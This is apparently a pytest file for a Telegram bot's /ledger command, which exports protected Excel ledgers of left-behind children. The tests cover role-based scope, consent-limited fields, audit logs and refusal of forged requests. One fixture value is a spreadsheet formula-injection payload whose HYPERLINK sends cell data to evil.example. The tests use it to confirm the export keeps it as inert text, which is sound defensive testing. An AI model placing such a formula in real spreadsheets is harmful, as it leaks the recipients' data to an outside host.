"""/ledger through the production application: the places and ledgers offered as buttons, the children's ledger
sent as a protected .xlsx (opened with openpyxl: the official header, one row per child, a formula-like name kept
as text), the other ledgers, and one refusal with nothing exported for a forged or foreign place."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from bot.access.policy import ADMIN, DIRECTOR, PARENT, SUPERVISOR, TEACHER
from bot.i18n import translator
from bot.ledgers.service import REFUSED
from bot.records.official import OFFICIAL_COLUMNS
from tests.helpers import DocumentRecorder, callback_update, labels, last, message_update, press, who
from tests.world import World

EN = translator("en").gettext
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def recorder() -> DocumentRecorder:
    return DocumentRecorder()


@pytest.fixture
async def world(app):
    services = app.bot_data.services
    world = await World.build(services, classes=("三年级一班", "三年级二班"))
    await world.township("青山镇", ("青山村", "绿水村"))
    await world.child("小明", "三年级一班", sex="male", birth_date="2016-05-01")
    await world.child(FORMULA, "三年级一班", key="formula")
    await world.child("小红", "三年级二班")
    await world.home("小明", "青山村")
    await world.home("小红", "绿水村")
    await world.person("admin", ADMIN)
    await world.person("teacher", TEACHER, klass="三年级一班")
    await world.person("director", DIRECTOR, village="青山村")
    await world.person("supervisor", SUPERVISOR)
    await world.person("mother", PARENT, child="小明", relation="mother")
    await world.consent("小明", "mother")
    return world


def _documents(recorder, world, name: str) -> list:
    return recorder.sent("sendDocument", chat_id=world.telegram[name])


def _sheet(recorder):
    _filename, data = recorder.files[-1]
    return load_workbook(io.BytesIO(data))


async def _audits(world) -> list[dict]:
    rows = await world.services.db.fetch_all("SELECT * FROM audit_log WHERE action LIKE 'ledger%' ORDER BY id")
    return [dict(r) for r in rows]


async def test_an_admin_exports_the_schools_childrens_ledger(feed, recorder, world):
    await feed(message_update("/ledger", from_user=who(world, "admin")))
    shown = last(recorder, world, "admin")
    assert labels(shown) == [EN("Left-behind children's ledger"), EN("Five musts ledger"), EN("Video call ledger"),
                             EN("Care calendar completion")]
    await press(feed, recorder, world, "admin", EN("Left-behind children's ledger"))

    [document] = _documents(recorder, world, "admin")
    assert document.params["protect_content"] is True
    book = _sheet(recorder)
    children = book.worksheets[0]
    header = [c.value for c in children[1]]
    assert header == [EN(label) for _key, label in OFFICIAL_COLUMNS]
    rows = list(children.iter_rows(min_row=2))
    assert len(rows) == 3  # one per child of the school
    names = {row[header.index(EN("Name"))].value: row[header.index(EN("Name"))] for row in rows}
    assert set(names) == {"小明", FORMULA, "小红"}
    assert names[FORMULA].data_type == "s" and names[FORMULA].quotePrefix
    assert EN("Ledger summary") in book.sheetnames
    audits = await _audits(world)
    assert audits[0]["action"] == "ledger_export" and audits[0]["actor_id"] == world.people["admin"]
    assert f"scope=school:{world.school_id}" in audits[0]["detail"] and "kind=children" in audits[0]["detail"]
    assert sorted(a["child_id"] for a in audits[1:]) == sorted(world.children.values())


async def test_before_consent_the_ledger_holds_only_the_name(feed, recorder, world):
    await feed(callback_update(f"ldg:school:{world.school_id}:children", from_user=who(world, "admin")))
    children = _sheet(recorder).worksheets[0]
    header = [c.value for c in children[1]]
    by_name = {row[header.index(EN("Name"))].value: row for row in children.iter_rows(min_row=2)}
    sex = header.index(EN("Sex"))
    assert by_name["小明"][sex].value  # consented: the record
    assert await world.services.consent.consented(world.children["小红"]) is False
    assert not by_name["小红"][sex].value


async def test_the_summarys_problems_are_listed_in_the_chat(feed, recorder, world):
    await feed(callback_update(f"ldg:school:{world.school_id}:children", from_user=who(world, "admin")))
    text = last(recorder, world, "admin").params["text"]
    assert text.startswith(EN("The summary's cross-checks found problems")[:20])
    assert EN("Cross-check problems") in _sheet(recorder).sheetnames


async def test_a_teacher_gets_the_own_class_and_a_director_the_own_village(feed, recorder, world):
    await feed(message_update("/ledger", from_user=who(world, "teacher")))
    await press(feed, recorder, world, "teacher", EN("Left-behind children's ledger"))
    names = [r[1].value for r in _sheet(recorder).worksheets[0].iter_rows(min_row=2)]
    assert sorted(names) == sorted(["小明", FORMULA])

    await feed(callback_update(f"ldg:village:{world.villages['青山村']}:children", from_user=who(world, "director")))
    names = [r[1].value for r in _sheet(recorder).worksheets[0].iter_rows(min_row=2)]
    assert names == ["小明"]


@pytest.mark.parametrize("name,data", [
    ("teacher", "ldg:class:{other_class}:children"),
    ("teacher", "ldg:school:{school}:children"),
    ("director", "ldg:village:{other_village}:video"),
    ("admin", "ldg:school:999999:children"),
    ("admin", "ldg:township:{township}:musts"),
    ("supervisor", "ldg:township:999999"),
    ("mother", "ldg:class:{klass}:children"),
])
async def test_a_forged_or_foreign_place_is_refused_and_nothing_is_exported(feed, recorder, world, name, data):
    data = data.format(other_class=world.class_ids["三年级二班"], klass=world.class_ids["三年级一班"],
                       school=world.school_id, other_village=world.villages["绿水村"], township=world.township_id)
    await feed(callback_update(data, from_user=who(world, name)))
    answers = [c for c in recorder.calls if c.method == "answerCallbackQuery"]
    assert [a.params.get("text") for a in answers] == [EN(REFUSED)]
    assert not recorder.sent("sendDocument")
    assert await _audits(world) == []


async def test_a_parent_has_no_ledgers(feed, recorder, world):
    await feed(message_update("/ledger", from_user=who(world, "mother")))
    text = last(recorder, world, "mother").params["text"]
    assert "ledger" in text.lower() and not recorder.sent("sendDocument")


async def test_a_supervisor_exports_the_other_ledgers(feed, recorder, world):
    for kind, first in (("musts", EN("Month")), ("video", EN("Time")), ("calendar", EN("Person"))):
        await feed(callback_update(f"ldg:township:{world.township_id}:{kind}", from_user=who(world, "supervisor")))
        sheet = _sheet(recorder).worksheets[0]
        assert sheet["A1"].value == first and sheet.freeze_panes == "A2"
    assert len(_documents(recorder, world, "supervisor")) == 3
    assert [a["detail"].split()[1] for a in await _audits(world)] == ["kind=musts", "kind=video", "kind=calendar"]



async def test_the_caption_counts_rows_in_the_readers_grammar_and_says_why_a_ledger_is_empty(feed, recorder, world):
    empty = EN("Nothing is recorded for it yet: the file holds only the header row.")
    await feed(callback_update(f"ldg:school:{world.school_id}:video", from_user=who(world, "admin")))
    assert _documents(recorder, world, "admin")[-1].params["caption"].splitlines() == [
        "Video call ledger, School 希望小学: 0 rows.", empty]
    await feed(callback_update(f"ldg:village:{world.villages['青山村']}:children", from_user=who(world, "director")))
    assert _documents(recorder, world, "director")[-1].params["caption"] == \
        "Left-behind children's ledger, Village 青山村: 1 row."
